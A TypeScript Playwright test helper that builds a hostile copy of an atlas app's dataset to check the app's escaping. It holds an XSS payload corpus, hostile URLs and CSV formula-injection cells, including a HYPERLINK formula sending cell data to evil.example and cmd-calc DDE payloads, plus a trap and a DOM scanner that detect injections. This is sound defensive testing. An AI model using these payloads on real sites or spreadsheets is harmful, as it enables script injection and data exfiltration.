// Hostile input for the security tests: an XSS corpus, hostile URLs, and mutators that put them
// into every string field of the sample dataset while keeping it valid for the validator.
//
// Every payload that would run calls `window.__xss(id)`; `installXssTrap` defines it before any
// page script and records the ids into `window.__xssHits`. A test asserts the list stays empty
// (`xssHits(page)`), and `scanDom(page)` looks for injected markup that a strict CSP would have
// stopped from running (so an injection is caught even when the CSP saves the day).
import { readFileSync } from "node:fs";
import path from "node:path";
import type { Page } from "@playwright/test";

// ---------------------------------------------------------------------------------------------
// The corpus
// ---------------------------------------------------------------------------------------------

export type Payload = { id: string; text: string };

/** Zero-width characters and a right-to-left override: not control characters (the validator
 *  lets them through), so they must survive as text and break nothing. */
const ZW = "\u200B\u200C\u200D\u2060\uFEFF";
const RLO = "\u202E";
const PDF = "\u202C";

/** Payloads meant for text fields. Each one that would run calls __xss(<its id>). */
export const XSS: Payload[] = [
  { id: "script", text: `<script>__xss('script')</script>` },
  { id: "img-onerror", text: `<img src=x onerror=__xss('img-onerror')>` },
  { id: "attr-breakout", text: `"><svg onload=__xss('attr-breakout')>` },
  { id: "single-breakout", text: `'><img src=x onerror=__xss('single-breakout')>` },
  { id: "js-url", text: `javascript:__xss('js-url')` },
  { id: "data-url", text: `data:text/html,<script>__xss('data-url')</script>` },
  { id: "svg-script", text: `<svg><script>__xss('svg-script')</script></svg>` },
  { id: "svg-animate", text: `<svg><animate onbegin=__xss('svg-animate') attributeName=x dur=1s>` },
  { id: "mathml", text: `<math><mtext><table><mglyph><style><img src=x onerror=__xss('mathml')>` },
  { id: "css-breakout", text: `</style><style>*{display:none}</style>` },
  { id: "css-expression", text: `x{width:expression(__xss('css-expression'))}` },
  { id: "iframe-srcdoc", text: `<iframe srcdoc="<script>parent.__xss('iframe-srcdoc')</script>"></iframe>` },
  { id: "a-href", text: `<a href="javascript:__xss('a-href')">click</a>` },
  { id: "details", text: `<details open ontoggle=__xss('details')>` },
  { id: "textarea-breakout", text: `</textarea><img src=x onerror=__xss('textarea-breakout')>` },
  { id: "title-breakout", text: `</title><img src=x onerror=__xss('title-breakout')>` },
  { id: "comment", text: `<!--<img src="--><img src=x onerror=__xss('comment')//">` },
  { id: "template", text: "{{constructor.constructor('__xss(\"template\")')()}} ${__xss('template')} #{7*7}" },
  { id: "bidi", text: `${RLO}gpj.exe${PDF} ${RLO}<script>__xss('bidi')</script>` },
  { id: "zero-width", text: `<scr${ZW}ipt>__xss('zero-width')</scr${ZW}ipt> a${ZW}b` },
  { id: "emoji", text: "🏥🧬👩🏽‍⚕️🇫🇷 𝕏𝔸 𠜎𠜱 ﷽ é\u0301 \u2028\u2029 end" },
  { id: "entities", text: `&lt;script&gt;__xss('entities')&lt;/script&gt; &amp;&#x3C;img&#62;` },
];

/** Cells a spreadsheet would run as formulas if a CSV export wrote them as they are. */
export const FORMULAS = [
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `=1+1<script>__xss('formula')</script>`,
];

/** The ids of payloads that could run; a hit for any id is a failure. */
export const XSS_IDS = XSS.map((p) => p.id);

/** Marker strings a reader must see as text somewhere when the hostile dataset is shown. */
export const VISIBLE_MARKERS = ["<script>", "<img src=x", "<svg", "<math>", "</style>", "javascript:"];

/** Link URLs that are valid http(s) for the validator (no `<`, `>`, `"`, `\`, backtick, spaces) but
 *  carry payloads in their path, query or fragment. */
export const HOSTILE_HTTPS_URLS = [
  "https://example.org/?q=%3Cscript%3E__xss('url-encoded')%3C/script%3E",
  "https://example.org/?q='onmouseover='__xss(1)'",
  "https://example.org/#javascript:__xss('fragment')",
  "https://example.org/path/javascript:__xss('path')",
  "HTTPS://EXAMPLE.ORG/UPPER?x={{7*7}}&y=${__xss('tpl')}",
  "http://example.org/%22%3E%3Cimg%20src=x%20onerror=__xss('encoded-img')%3E",
  "https://example.org/" + RLO + "gpj.exe",
  "https://example.org/data:text/html,__xss('data')",
];

/** URLs the validator must refuse. */
export const FORBIDDEN_URLS = [
  "javascript:__xss('javascript-link')",
  "JaVaScRiPt:__xss('javascript-mixed-case')",
  "data:text/html,<script>__xss('data-link')</script>",
  "vbscript:msgbox(1)",
  "https://example.org/?q=<script>__xss('raw-lt')</script>",
  "https://user@evil.example/",
];

/** A string of n characters, without any control character (the validator refuses those). */
export function longString(n: number, seed = "A<b>é🏥"): string {
  const unit = Array.from(seed);
  const out: string[] = [];
  for (let i = 0; i < n; i++) out.push(unit[i % unit.length]);
  return out.join("");
}

/** The first `max` code points of s (the validator counts Unicode scalar values, not UTF-16 units). */
export function clip(s: string, max: number): string {
  const chars = Array.from(s);
  return chars.length <= max ? s : chars.slice(0, max).join("");
}

// ---------------------------------------------------------------------------------------------
// The dataset mutator
// ---------------------------------------------------------------------------------------------

/** Same limits as core/src/limits.rs. */
export const LIMITS = { name: 300, text: 4000, id: 64, url: 2048 };

// Fields that are not free text: identifiers, references, enum values, dates, codes.
const KEEP_KEYS = new Set([
  "id", "region", "source", "part_of", // identifiers and references
  "kind", "category", "unit", "qualifier", "precision", "inset_placement", "type", // enums
  "currency", "published", "date", "languages", "format",
  "coordinates", "geometry", "point", "projection", // numbers
]);
// Text objects holding running text (4,000 characters); every other Text is a name (300).
const LONG_TEXT_KEYS = new Set(["description", "attribution"]);

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

export function sampleDataset(): any {
  const file = path.join(process.cwd(), "public", "data", "atlas.json");
  return JSON.parse(readFileSync(file, "utf8"));
}

function isText(v: Json): v is { fr?: string; en?: string } {
  return (
    !!v && typeof v === "object" && !Array.isArray(v) &&
    Object.keys(v).length > 0 && Object.keys(v).every((k) => k === "fr" || k === "en")
  );
}

class Cycle {
  private i = 0;
  constructor(private readonly items: string[]) {}
  next(): string {
    return this.items[this.i++ % this.items.length];
  }
}

/**
 * Puts a payload into every string field of `dataset` (a copy of the sample), keeping ids,
 * references, enums, dates and codes intact and every string within its cap, so the result
 * still validates. Adds the optional fields the sample leaves out (links, towns, capitals, inset
 * labels, named funders) so that every kind of string field carries a payload.
 */
export function hostileDataset(base: any = sampleDataset()): any {
  const d = structuredClone(base);
  const payloads = new Cycle(XSS.map((p) => p.text));
  const urls = new Cycle(HOSTILE_HTTPS_URLS);

  // Optional fields the sample leaves out, so that they get payloads too.
  d.metadata.description ??= { fr: "description", en: "description" };
  for (const inset of d.map.insets ?? []) inset.label ??= { fr: "encart", en: "inset" };
  for (const r of d.regions) r.capital ??= { name: "capitale" };
  for (const ind of d.indicators) ind.description ??= { fr: "description", en: "description" };
  for (const s of d.sources) {
    s.url ??= "https://example.org/";
    s.licence ??= "licence";
  }
  d.places.forEach((p: any, i: number) => {
    p.town ??= "ville";
    p.description ??= { fr: "description", en: "description" };
    p.links = [
      ...(p.links ?? []),
      // A link with a label, one without (its URL is shown as its text).
      { url: HOSTILE_HTTPS_URLS[i % HOSTILE_HTTPS_URLS.length], label: { fr: "lien", en: "link" } },
      { url: HOSTILE_HTTPS_URLS[(i + 3) % HOSTILE_HTTPS_URLS.length] },
    ];
    p.facts ??= [];
    if (p.facts.length === 0) p.facts.push({ label: { fr: "fait", en: "fact" }, source: p.source });
  });
  for (const f of d.funding) {
    f.description ??= { fr: "description", en: "description" };
    f.funders = [...(f.funders ?? []), { kind: "other", name: { fr: "financeur", en: "funder" } }];
  }

  const walk = (value: Json, key: string): Json => {
    if (KEEP_KEYS.has(key)) return value;
    if (key === "url" && typeof value === "string") return urls.next();
    if (key === "version" && typeof value === "string") return clip(`<svg onload=__xss('version')>${value}`, LIMITS.id);
    if (isText(value)) {
      const cap = LONG_TEXT_KEYS.has(key) ? LIMITS.text : LIMITS.name;
      const out: { fr?: string; en?: string } = {};
      for (const lang of ["fr", "en"] as const) {
        const original = value[lang] ?? value[lang === "fr" ? "en" : "fr"] ?? "";
        out[lang] = clip(`${payloads.next()} ${original}`, cap);
      }
      return out;
    }
    if (typeof value === "string") return clip(`${payloads.next()} ${value}`, LIMITS.name);
    if (Array.isArray(value)) return value.map((v) => walk(v, key));
    if (value && typeof value === "object") {
      const out: { [k: string]: Json } = {};
      for (const [k, v] of Object.entries(value)) out[k] = walk(v, k);
      return out;
    }
    return value;
  };
  const result = walk(d, "") as any;

  // Fixed, recognisable texts where the tests look for them (the app runs in French by default).
  result.metadata.title = {
    fr: `<script>__xss('meta-title')</script> Atlas <img src=x onerror=__xss('meta-title-img')>`,
    en: `<script>__xss('meta-title-en')</script> Atlas`,
  };
  const r28 = result.regions.find((r: any) => r.id === "28");
  r28.name = {
    fr: `"><svg onload=__xss('r28')><img src=x onerror=__xss('r28-img')> Normandie`,
    en: `"><svg onload=__xss('r28-en')> Normandy`,
  };
  const r11 = result.regions.find((r: any) => r.id === "11");
  r11.name = { fr: `<script>__xss('r11')</script> Île-de-France ${RLO}ecnarF`, en: `<script>__xss('r11-en')</script> Paris region` };
  // Chart labels that a spreadsheet would take for formulas (CSV export).
  let f = 0;
  for (const fund of result.funding) {
    for (const item of fund.breakdown?.items ?? []) item.label = { fr: FORMULAS[f++ % FORMULAS.length], en: FORMULAS[f++ % FORMULAS.length] };
  }
  for (const share of result.shares) {
    for (const part of share.parts) part.label = { fr: FORMULAS[f++ % FORMULAS.length], en: FORMULAS[f++ % FORMULAS.length] };
  }
  // Texts at their caps: an unbroken 300-character name and a 4,000-character description.
  result.places[0].name = { fr: clip(`<script>__xss('long-name')</script>` + longString(LIMITS.name), LIMITS.name) };
  result.places[0].description = { fr: clip(`<img src=x onerror=__xss('long-desc')>` + longString(LIMITS.text), LIMITS.text), en: "x" };
  result.metadata.description.fr = clip(`</style><style>*{display:none}</style>` + longString(LIMITS.text, "🧬 "), LIMITS.text);
  return result;
}

/** The first funding id of a dataset (for /embed/chart/<id>). */
export function firstFundingId(d: any = sampleDataset()): string {
  return d.funding[0].id;
}

// Variants the validator must refuse ------------------------------------------------------------

/** A place link with the given URL (e.g. `javascript:`): the validator must refuse it. */
export function datasetWithLink(url: string, base: any = sampleDataset()): any {
  const d = structuredClone(base);
  d.places[0].links = [{ url, label: { fr: "lien", en: "link" } }];
  return d;
}

/** A licence URL with the given value. */
export function datasetWithLicenceUrl(url: string, base: any = sampleDataset()): any {
  const d = structuredClone(base);
  d.metadata.licence.url = url;
  return d;
}

/** A name longer than its cap, e.g. the 100,000-character string. */
export function datasetWithLongName(n: number, base: any = sampleDataset()): any {
  const d = structuredClone(base);
  d.regions.find((r: any) => r.id === "28").name.fr = longString(n, "<script>__xss('huge')</script>");
  return d;
}

// ---------------------------------------------------------------------------------------------
// In-page traps and checks
// ---------------------------------------------------------------------------------------------

/** Defines window.__xss before any page script; every call is recorded in window.__xssHits. */
export async function installXssTrap(page: Page) {
  await page.addInitScript(() => {
    const w = window as unknown as { __xssHits: string[]; __xss: (id: unknown) => void };
    w.__xssHits = [];
    w.__xss = (id: unknown) => {
      w.__xssHits.push(String(id));
    };
    // Also catch payloads a browser might run in a child frame (iframe srcdoc → parent.__xss).
    Object.defineProperty(w, "__xssInstalled", { value: true });
  });
}

export async function xssHits(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __xssHits?: string[] }).__xssHits ?? ["(trap missing)"]);
}

export type DomFinding = string;

/**
 * Markup that only an injection could have produced: elements the app never renders, event
 * handler attributes, and URLs with a scheme other than http(s) in link or resource attributes.
 * Returns one line per finding (empty when clean).
 */
export async function scanDom(page: Page): Promise<DomFinding[]> {
  return page.evaluate(() => {
    const findings: string[] = [];
    const describe = (el: Element) => `<${el.tagName.toLowerCase()}${[...el.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 60)}"`).join("")}>`;
    // The app's only scripts are boot.js (and its module), a baked page's prefs.js and, on a
    // page with a baked map, island.js; styles come from stylesheet links.
    for (const s of document.querySelectorAll("script")) {
      const src = s.getAttribute("src") ?? "";
      if (!/(^|\/)boot\.js\?/.test(src) && !/(^|\/)(prefs|island)\.js$/.test(src)) findings.push(`unexpected script ${describe(s)}`);
    }
    for (const sel of ["style", "img", "iframe:not([data-testid=embed-preview])", "object", "embed", "math", "mglyph", "foreignObject", "animate", "set", "base", "form", "meta[http-equiv=refresh]"]) {
      for (const el of document.querySelectorAll(sel)) findings.push(`unexpected element ${describe(el)}`);
    }
    for (const el of document.querySelectorAll("*")) {
      for (const a of el.attributes) {
        if (/^on/i.test(a.name)) findings.push(`event handler attribute ${a.name} on ${describe(el)}`);
        if (a.name === "srcdoc") findings.push(`srcdoc on ${describe(el)}`);
        if (["href", "src", "xlink:href", "action", "formaction", "data", "poster"].includes(a.name)) {
          const raw = a.value.trim();
          if (raw.startsWith("#")) continue;
          let protocol = "";
          try {
            protocol = new URL(raw, location.href).protocol;
          } catch {
            findings.push(`unparseable URL ${a.name}="${raw.slice(0, 80)}" on <${el.tagName.toLowerCase()}>`);
            continue;
          }
          // data: only for the page's own empty icon.
          const ok = protocol === "http:" || protocol === "https:" || (el.tagName === "LINK" && raw === "data:,");
          if (!ok) findings.push(`${protocol} URL in ${a.name} on ${describe(el)}`);
        }
      }
    }
    return findings;
  });
}

/** Whether the wasm panicked (the app's panic hook marks <html data-panic="true">). */
export async function panicked(page: Page): Promise<boolean> {
  return page.evaluate(() => document.documentElement.dataset.panic === "true" || !!document.querySelector(".panic-banner"));
}

/** Waits until the app shows its view or its dataset error view; returns which. */
export async function waitForSettled(page: Page, timeout = 20_000): Promise<"ready" | "error" | "panic"> {
  const handle = await page.waitForFunction(
    () => {
      const root = document.documentElement;
      if (root.dataset.panic === "true") return "panic";
      if (root.dataset.ready === "true") return "ready";
      if (root.dataset.ready === "error") return "error";
      return false;
    },
    null,
    { timeout },
  );
  return (await handle.jsonValue()) as "ready" | "error" | "panic";
}
